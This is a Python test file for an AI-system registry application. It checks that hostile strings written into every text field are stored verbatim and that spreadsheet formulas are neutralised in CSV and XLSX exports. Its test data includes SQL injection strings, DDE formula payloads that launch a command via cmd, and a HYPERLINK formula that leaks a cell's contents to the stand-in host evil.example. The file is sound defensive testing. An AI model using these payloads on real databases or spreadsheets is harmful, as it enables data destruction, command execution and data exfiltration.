"""R4: hostile text in every text field of every register is stored verbatim and neutralised
in the CSV and XLSX exports.

The fields are enumerated from ``store.registers.REGISTERS`` and each register's ``Field``
declarations (kinds ``text`` and ``long_text``); an existing demo record of each register gets
the hostile value through the store's generic write path (``records.update``).

NUL (``"\\x00"``) is stored and read back verbatim and kept in CSV; XLSX (XML) cannot hold it,
so the XLSX export drops it with the other control characters.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from reports.tabular import (
    EXCEL_CELL_LIMIT,
    FORMULA_PREFIXES,
    neutralise_cell,
    to_csv_bytes,
    to_xlsx_bytes,
)
from risk_model.access import SYSTEM
from risk_model.cell_values import restore_neutralised
from store import records
from store.registers import REGISTERS

HOSTILE = {
    "sql-quote": "Robert'); DROP TABLE ai_systems;--",
    "sql-or": "' OR '1'='1' --",
    "sql-stacked": '"; DELETE FROM audit_trail WHERE 1=1; --',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "rtl-override": "invoice\u202egpj.exe\u202c",
    "zwj-emoji": "👩🏽\u200d💻 and 👨\u200d👩\u200d👧\u200d👦, skin tones 👍🏿👋🏻",
    "zero-width": "ze\u200bro\u200cwidth\u200djoin\ufeffbom",
    "combining": "Zalgo: Z\u0351\u034ba\u0352l\u0357g\u0350o\u0351 e\u0301",
    "astral": "𝕳𝖊𝖑𝖑𝖔 𓀀 \U0010fffd",
    "nul": "before\x00after",
    "quoted-formula": "'=1+1",
    "quoted-twice": "''@SUM(A1)",
    "one-megabyte": ("Ωmega ≈ ç √ 文字 " * 70_000)[:1_000_000],
}
SKIPPED = {
    "system_id",
    "person_id",
    "item_id",
    "features",
    "thresholds",
    "audit_id",
    "nonconformity_id",
}
"""References to other records and JSON settings: validated structure, not free text."""


def text_fields() -> list[tuple[str, str]]:
    found = []
    for name, io_ in REGISTERS.items():
        for spec in io_.register.fields:
            if spec.kind in ("text", "long_text") and spec.name not in SKIPPED:
                found.append((name, spec.name))
    return found


FIELDS = text_fields()


def some_records(db, register, most: int) -> list[str]:
    with db.connect() as connection:
        rows = connection.execute(
            f"SELECT id FROM {records._ident(register.table)} ORDER BY id LIMIT ?", [most]
        ).fetchall()
    if not rows:
        pytest.skip(f"the demo has no {register.label} record")
    return [r[0] for r in rows]


def csv_cells(data: bytes) -> list[list[str]]:
    csv.field_size_limit(4_000_000)  # the 1 MB strings
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def expected_export(value: str) -> str:
    """One more quote before text that, less its leading quotes, a spreadsheet would run."""
    return "'" + value if value.lstrip("'").startswith(FORMULA_PREFIXES) else value


def test_every_register_has_text_fields_to_attack():
    registers = {name for name, _ in FIELDS}
    assert registers == set(REGISTERS) - {
        n
        for n, io_ in REGISTERS.items()
        if not any(
            f.kind in ("text", "long_text") and f.name not in SKIPPED for f in io_.register.fields
        )
    }
    assert len(FIELDS) >= 40


def xml_text(value: str) -> str:
    """XML reads a literal carriage return back as a line feed; openpyxl's lxml writer (lxml
    comes with python-docx) escapes it, so it then reads back verbatim."""
    from openpyxl.xml import LXML

    return value if LXML else value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("register_name", sorted({name for name, _ in FIELDS}))
def test_hostile_text_is_stored_verbatim_and_neutralised_in_exports(demo_db, register_name):
    """Each round gives each (record, field) a different hostile value; over the rounds every
    field of the register has held every value."""
    io_ = REGISTERS[register_name]
    register = io_.register
    fields = [f for name, f in FIELDS if name == register_name]
    labels = list(HOSTILE)
    ids = some_records(demo_db, register, len(labels))
    seen = {f: set() for f in fields}
    for round_ in range(-(-len(labels) // len(ids))):
        plan = {
            (rid, f): labels[(round_ * len(ids) + i + j) % len(labels)]
            for i, rid in enumerate(ids)
            for j, f in enumerate(fields)
        }
        with demo_db.transaction() as connection:
            for rid in ids:
                values = {f: HOSTILE[plan[rid, f]] for f in fields}
                # the basis is written as the classification writes it (only it may)
                records.update(connection, register, rid, values, SYSTEM, by_classifier=True)
        frame = io_.export(demo_db)
        cells = csv_cells(to_csv_bytes(frame))
        sheet = load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
        with demo_db.connect() as connection:
            stored = {rid: records.fetch(connection, register, rid) for rid in ids}
            assert connection.execute("SELECT count(*) FROM ai_systems").fetchone()[0] > 0
        for (rid, field), label in plan.items():
            value = HOSTILE[label]
            seen[field].add(label)
            assert stored[rid][field] == value, f"{label} was not stored verbatim in {field}"
            if field not in frame.columns:
                continue
            line = 1 + list(frame["id"]).index(rid)
            assert frame.iloc[line - 1][field] == value  # the frame itself is still verbatim
            column = cells[0].index(field)
            assert cells[line][column] == expected_export(value), f"{label}: CSV {field}"
            cell = sheet.cell(row=line + 1, column=column + 1)
            assert cell.data_type != "f", f"{label}: XLSX stores a formula in {field}"
            text = str(cell.value or "")
            assert not text.startswith(FORMULA_PREFIXES), f"{label}: XLSX {field} may run"
            if len(value) <= EXCEL_CELL_LIMIT and label != "nul":
                assert text == xml_text(expected_export(value)), f"{label}: XLSX {field}"
            else:
                assert len(text) <= EXCEL_CELL_LIMIT
    assert all(labels_seen == set(labels) for labels_seen in seen.values())


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=200))
def test_any_unicode_text_round_trips(demo_db, value):
    io_ = REGISTERS["inventory"]
    with demo_db.transaction() as connection:
        records.update(connection, io_.register, "SYS-0003", {"description": value}, SYSTEM)
        assert records.fetch(connection, io_.register, "SYS-0003")["description"] == value
    frame = io_.export(demo_db)
    exported = frame.set_index("id").loc["SYS-0003", "description"]
    assert exported == value
    cells = csv_cells(to_csv_bytes(frame[["id", "description"]]))
    assert dict(cells[1:])["SYS-0003"] == expected_export(value)


@settings(max_examples=300, deadline=None)
@given(value=st.text(st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "]), max_size=8))
def test_neutralising_then_restoring_gives_back_any_text(value):
    assert restore_neutralised(neutralise_cell(value)) == value


@pytest.mark.parametrize("writer", [to_csv_bytes, to_xlsx_bytes])
def test_quoted_formula_text_survives_an_export_and_re_import(demo_db, writer):
    io_ = REGISTERS["inventory"]
    values = {"SYS-0001": "'=1+1", "SYS-0002": "=cmd|' /C calc'!A0", "SYS-0003": "''@x"}
    with demo_db.transaction() as connection:
        for rid, value in values.items():
            records.update(connection, io_.register, rid, {"description": value}, SYSTEM)
    name = "inventory.csv" if writer is to_csv_bytes else "inventory.xlsx"
    summary = io_.import_file(demo_db, writer(io_.export(demo_db)), name, SYSTEM, None)
    assert summary.updated == 0 and summary.created == 0
    with demo_db.connect() as connection:
        for rid, value in values.items():
            assert records.fetch(connection, io_.register, rid)["description"] == value
